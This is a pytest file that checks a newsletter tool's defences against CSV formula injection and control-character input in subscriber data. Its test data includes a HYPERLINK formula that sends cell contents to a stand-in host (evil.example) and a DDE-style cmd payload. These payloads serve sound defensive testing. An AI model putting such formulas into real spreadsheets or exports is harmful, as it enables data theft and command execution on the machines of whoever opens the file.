"""Subscriber CSV opened in a spreadsheet (issue 13, item 10): a name ``=HYPERLINK(...)`` from
the public form used to be exported verbatim — a formula run on the admin's machine — and NUL
and ESC bytes reached the file.

Now every cell that a spreadsheet would evaluate (starting with ``=``, ``+``, ``-``, ``@``, tab or
CR) is written behind a single quote (OWASP's advice), import takes exactly that quote off so
the round trip stays lossless, and control characters are refused where subscriber fields come
in: the public form (422 naming the field) and the CSV import (the row reported by line).
"""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings, strategies as st
from sqlalchemy import update

from broadcaster import export, subscribers as subs
from broadcaster.csvcells import as_text_cell, from_text_cell
from broadcaster.ledger import Ledger, schema as t
from broadcaster.subscribers.audience import SubscriberFile

from .conftest import Env, assert_error, config
from .test_bad_input import counts

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


class Outbox:
    def __init__(self) -> None:
        self.sent: list[tuple[str, str, str]] = []

    def __call__(self, address: str, subject: str, text: str, unsubscribe: str | None = None) -> None:
        self.sent.append((address, subject, text))


@pytest.fixture
def e(tmp_path):
    cfg = config()
    cfg["channels"] = {**cfg["channels"], "mail": {
        "kind": "email", "smtp": {"host": "smtp.example.test"}, "from_address": "news@example.test",
        "lists": ["news"]}}
    cfg["subscribers"] = {"secret_key": "csv-test-signing-key-0123456789"}
    env = Env(tmp_path, cfg, confirmation_sender=Outbox())
    _ = env.admin
    yield env
    env.client.close()
    env.ledger.close()


def legacy(ledger: Ledger, address: str, name: str) -> None:
    """A row the intake no longer lets in (a tab or CR in a name) that an older ledger may hold."""
    subs.add(ledger, "news", address, name="placeholder", state="confirmed", actor="legacy")
    with ledger.tx() as conn:
        conn.execute(update(t.subscribers).where(t.subscribers.c.address == address).values(name=name))


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def spreadsheet_safe(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(TRIGGERS), (cell, row)


# ---------------------------------------------------------------- export


def test_a_formula_from_the_public_form_is_exported_as_text(e):
    for i, name in enumerate(FORMULAS[:4]):
        r = e.client.post("/api/v1/subscribe", json={"list": "news", "address": f"r{i}@example.test", "name": name})
        assert r.status_code == 202, r.text
    # rows the form can no longer make (tab, CR) may still be in an older ledger
    for i, name in enumerate(FORMULAS[4:], start=4):
        legacy(e.ledger, f"r{i}@example.test", name)
    subs.add(e.ledger, "news", "-dash@example.test", name="plain", actor="test")

    r = e.client.get("/api/v1/export/subscribers.csv", headers=e.admin)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = cells(r.text)
    spreadsheet_safe(rows)
    names = {row[1]: row[2] for row in rows[1:]}
    for i, name in enumerate(FORMULAS):
        assert names[f"r{i}@example.test"] == "'" + name
    assert "'-dash@example.test" in names and names["'-dash@example.test"] == "plain"

    out = io.StringIO()  # what `broadcaster subscribers export` writes
    export.export_subscribers_csv(e.ledger, out)
    assert out.getvalue() == r.text


def test_the_export_still_round_trips_losslessly(e, tmp_path):
    names = [*FORMULAS, "'=already quoted", "''=twice", "'Tis the season", "O'Brien", "plain", "-", "'"]
    for i, name in enumerate(names):
        if name[0] in "\t\r":
            legacy(e.ledger, f"p{i}@example.test", name)
        else:
            subs.add(e.ledger, "news", f"p{i}@example.test", name=name, components=["=db"] if i == 0 else [],
                     state="confirmed", actor="test")
    first = io.StringIO()
    export.export_subscribers_csv(e.ledger, first)
    spreadsheet_safe(cells(first.getvalue()))

    fresh = Ledger.open(f"sqlite:///{tmp_path}/fresh.db")
    try:
        report = export.import_subscribers_csv(fresh, io.StringIO(first.getvalue()))
        got = {s.address: s for s in subs.list_subscribers(fresh)}
    finally:
        fresh.close()
    # tab and CR names are refused by the import now (one-line field); the rest come back exactly
    refused = {i for i, n in enumerate(FORMULAS) if n[0] in "\t\r"}
    assert [msg for _, msg in report.errors] == ["name: must be one line (no line breaks or tabs)"] * len(refused)
    assert {f"p{i}@example.test" for i in range(len(names))} - set(got) == {f"p{i}@example.test" for i in refused}
    for i, name in enumerate(names):
        if i not in refused:
            assert got[f"p{i}@example.test"].name == name
    assert got["p0@example.test"].components == ("=db",)


def test_break_glass_reads_the_export_without_the_quotes(e, tmp_path):
    """``post --direct --subscribers-file`` mails the addresses of an export: ``+tag@…`` and
    ``-x@…`` must come back as written, not with the spreadsheet quote in front."""
    for address in ("+tag@example.test", "-x@example.test", "plain@example.test"):
        subs.add(e.ledger, "news", address, components=["=db"], state="confirmed", actor="test")
    path = tmp_path / "subscribers.csv"
    with path.open("w", encoding="utf-8", newline="") as fp:
        export.export_subscribers_csv(e.ledger, fp)
    assert "'+tag@example.test" in path.read_text(encoding="utf-8")
    rows = list(SubscriberFile(path).rows(["news"], ["confirmed"], marketing_only=False))
    assert sorted(r.address for r in rows) == ["+tag@example.test", "-x@example.test", "plain@example.test"]
    assert {r.components for r in rows} == {("=db",)}


@settings(max_examples=300, deadline=None, derandomize=True)
@given(st.text(max_size=30))
def test_the_quote_is_added_only_where_needed_and_always_removable(value):
    cell = as_text_cell(value)
    assert not cell.startswith(TRIGGERS)
    assert from_text_cell(cell) == value
    if not value.startswith((*TRIGGERS, "'")):
        assert cell == value


# ---------------------------------------------------------------- intake


@pytest.mark.parametrize("field, value", [
    ("name", "Mallory \x00"), ("name", "\x1b[31mred"), ("name", "two\nlines"), ("name", "bell\x07"),
    ("address", "a\x00b@example.test"), ("address", "x\x1b@example.test"), ("list", "ne\x00ws"),
    ("components", ["api", "d\x00b"]),
], ids=["name-nul", "name-esc", "name-lf", "name-bel", "address-nul", "address-esc", "list-nul", "component-nul"])
def test_the_public_form_refuses_control_characters_naming_the_field(e, field, value):
    before = counts(e.ledger)
    body = {"list": "news", "address": "reader@example.test", "name": "Reader", field: value}
    err = assert_error(e.client.post("/api/v1/subscribe", json=body), 422, "invalid_request")
    assert err["details"]["field"] == field, err
    assert counts(e.ledger) == before
    assert e.runtime.confirmation_sender.sent == []


def test_the_csv_import_refuses_control_characters_by_line(tmp_path):
    text = ("address,name,components\n"
            "ok@example.test,Fine,api\n"
            "nul@example.test,\"Mal\x00lory\",\n"
            "esc@example.test,\x1b[2J,\n"
            "comp@example.test,C,api;d\x07b\n"
            "a\x00b@example.test,X,\n")
    ledger = Ledger.open(f"sqlite:///{tmp_path}/l.db")
    try:
        report = export.import_subscribers_csv(ledger, io.StringIO(text), list_name="news")
        assert report.inserted == 1
        assert [(line, msg.split(":")[0]) for line, msg in report.errors] == [
            (3, "name"), (4, "name"), (5, "components"), (6, "address")]
        assert all("control characters" in msg for _, msg in report.errors)
    finally:
        ledger.close()
